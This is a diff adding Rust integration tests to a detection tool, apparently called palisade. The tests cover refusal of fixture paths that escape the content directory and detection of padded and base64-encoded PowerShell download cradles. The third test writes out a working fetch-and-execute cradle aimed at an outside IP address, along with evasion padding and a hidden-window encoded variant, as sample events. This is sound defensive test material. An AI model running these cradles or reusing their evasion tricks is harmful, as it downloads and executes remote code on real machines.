@@ -608,3 +608,170 @@ fn a_reader_that_stops_early_ends_the_output_quietly() {
     assert_eq!(out.status.code(), Some(0), "{err}");
     assert!(!err.contains("panicked"), "{err}");
 }
+
+/// A rule whose one test reads `fixture`.
+fn rule_with_fixture(fixture: &str) -> String {
+    format!(
+        r#"let rule = #{{ id: "fixture-rule", title: "F", severity: "low", events: ["process_create"], filter: #{{ name: "powershell.exe" }} }};
+let tests = [
+    #{{ name: "from a file", fixture: "{fixture}", expect: true }},
+];
+"#
+    )
+}
+
+// Item 10: a rule test with `fixture: "/dev/zero"` hung `palisade test`; absolute and `../`
+// fixture paths were accepted.
+#[test]
+fn fixture_paths_outside_the_content_directory_are_refused() {
+    for (fixture, says) in [
+        ("/dev/zero", "is an absolute path"),
+        ("../outside.jsonl", "leaves the content directory"),
+        ("tests/../../outside.jsonl", "leaves the content directory"),
+    ] {
+        let dir = scratch_content();
+        std::fs::write(
+            dir.path().join("rules/fixture.rhai"),
+            rule_with_fixture(fixture),
+        )
+        .expect("write");
+        let started = std::time::Instant::now();
+        let out = palisade(&["validate"], dir.path());
+        assert!(started.elapsed() < std::time::Duration::from_secs(30));
+        assert_eq!(out.status.code(), Some(1), "{fixture}: {}", stdout(&out));
+        let text = format!("{}{}", stdout(&out), stderr(&out));
+        assert!(text.contains("rules/fixture.rhai:3:"), "{text}");
+        assert!(text.contains("rule-bad-test"), "{text}");
+        assert!(text.contains(says), "{fixture}: {text}");
+    }
+}
+
+// Item 10, the same through a symbolic link, a device or a huge file: checked on the real file
+// when the test reads it, so `palisade test` reports it instead of hanging.
+#[test]
+fn fixture_files_are_read_only_inside_the_content_directory_and_bounded() {
+    let dir = scratch_content();
+    let fixtures = dir.path().join("tests/fixtures");
+    std::fs::create_dir_all(&fixtures).expect("mkdir");
+    std::os::unix::fs::symlink("/dev/zero", fixtures.join("zero.jsonl")).expect("symlink");
+    let outside = tempfile::NamedTempFile::new().expect("temp file");
+    std::os::unix::fs::symlink(outside.path(), fixtures.join("outside.jsonl")).expect("symlink");
+    std::fs::File::create(fixtures.join("huge.jsonl"))
+        .and_then(|f| f.set_len(17 * 1024 * 1024))
+        .expect("a sparse file");
+    // A snapshot whose expected file is a device is read the same way.
+    std::fs::copy(
+        repo().join("tests/fixtures/powershell-cradle.jsonl"),
+        fixtures.join("snap.jsonl"),
+    )
+    .expect("copy");
+    std::os::unix::fs::symlink("/dev/zero", fixtures.join("snap.expected.jsonl")).expect("symlink");
+    for name in ["zero", "outside", "huge"] {
+        std::fs::write(
+            dir.path().join(format!("rules/{name}.rhai")),
+            rule_with_fixture(&format!("tests/fixtures/{name}.jsonl"))
+                .replace("fixture-rule", &format!("fixture-{name}")),
+        )
+        .expect("write");
+    }
+    let started = std::time::Instant::now();
+    let out = palisade(&["test", "."], dir.path());
+    assert!(
+        started.elapsed() < std::time::Duration::from_secs(60),
+        "took {:?}",
+        started.elapsed()
+    );
+    let text = stdout(&out);
+    assert_eq!(out.status.code(), Some(1), "{text}");
+    for (name, says) in [
+        ("fixture-zero", "leads outside the content directory"),
+        ("fixture-outside", "leads outside the content directory"),
+        ("fixture-huge", "larger than"),
+    ] {
+        let block: String = text
+            .split("FAIL  ")
+            .filter(|case| case.starts_with(name))
+            .collect();
+        assert!(block.contains(says), "{name}: {text}");
+    }
+    assert!(text.contains("snap.expected.jsonl"), "{text}");
+    assert!(
+        text.contains("is not a regular file") || text.contains("leads outside"),
+        "{text}"
+    );
+}
+
+// Defect 3 end to end: a download cradle padded past 64 KB (and an encoded one padded inside
+// its base64) is detected by the shipped rules and the shipped playbook's kill step is decided.
+#[test]
+fn padded_powershell_cradles_are_detected_and_the_kill_decided_in_replay() {
+    use base64::Engine as _;
+    let dir = scratch_content();
+    // A debug build on a busy machine is slow; what is tested here is size, not speed.
+    std::fs::write(
+        dir.path().join("palisade.yaml"),
+        "limits:\n  time_budget_ms: 10000\n",
+    )
+    .expect("write");
+    let cradle = format!(
+        "powershell.exe -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://185.12.33.4/a.ps1')\"{}",
+        " ".repeat(70_000)
+    );
+    let payload = format!(
+        "{}IEX (New-Object Net.WebClient).DownloadString('http://185.12.33.4/a.ps1'){}",
+        " ".repeat(40_000),
+        " ".repeat(40_000)
+    );
+    let utf16: Vec<u8> = payload.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let encoded = format!(
+        "powershell.exe -NoP -W Hidden -Enc {}",
+        base64::engine::general_purpose::STANDARD.encode(utf16)
+    );
+    let events: String = [(7001, "padded-1", cradle), (7002, "padded-2", encoded)]
+        .into_iter()
+        .map(|(pid, id, cmdline)| {
+            serde_json::json!({
+                "type": "process_create", "timestamp": "2025-11-03T14:31:00Z", "id": id,
+                "host": "ws-17", "pid": pid, "name": "powershell.exe", "parent_name": "cmd.exe",
+                "cmdline": cmdline,
+            })
+            .to_string()
+                + "\n"
+        })
+        .collect();
+    assert!(events.lines().all(|l| l.len() < 1024 * 1024));
+    std::fs::write(dir.path().join("padded.jsonl"), events).expect("write");
+    let out = palisade(&["replay", "--events", "padded.jsonl"], dir.path());
+    assert_success(&out);
+    assert!(!stderr(&out).contains("rule skipped"), "{}", stderr(&out));
+    let lines = json_lines(&stdout(&out));
+    let critical: Vec<(&str, &str)> = lines
+        .iter()
+        .filter(|l| l["kind"] == "detection" && l["severity"] == "critical")
+        .map(|l| {
+            (
+                l["event_id"].as_str().unwrap_or_default(),
+                l["rule"].as_str().unwrap_or_default(),
+            )
+        })
+        .collect();
+    assert!(
+        critical.contains(&("padded-1", "powershell-download-cradle")),
+        "{critical:?}"
+    );
+    assert!(
+        critical.contains(&("padded-2", "encoded-powershell")),
+        "{critical:?}"
+    );
+    for (event, pid) in [("padded-1", "7001"), ("padded-2", "7002")] {
+        let kill = lines
+            .iter()
+            .find(|l| l["event_id"] == event && l["step"] == "kill-powershell")
+            .unwrap_or_else(|| panic!("no kill step for {event}: {lines:?}"));
+        assert_eq!(kill["target"], pid);
+        assert!(
+            ["planned", "queued"].contains(&kill["status"].as_str().unwrap_or_default()),
+            "{kill}"
+        );
+    }
+}
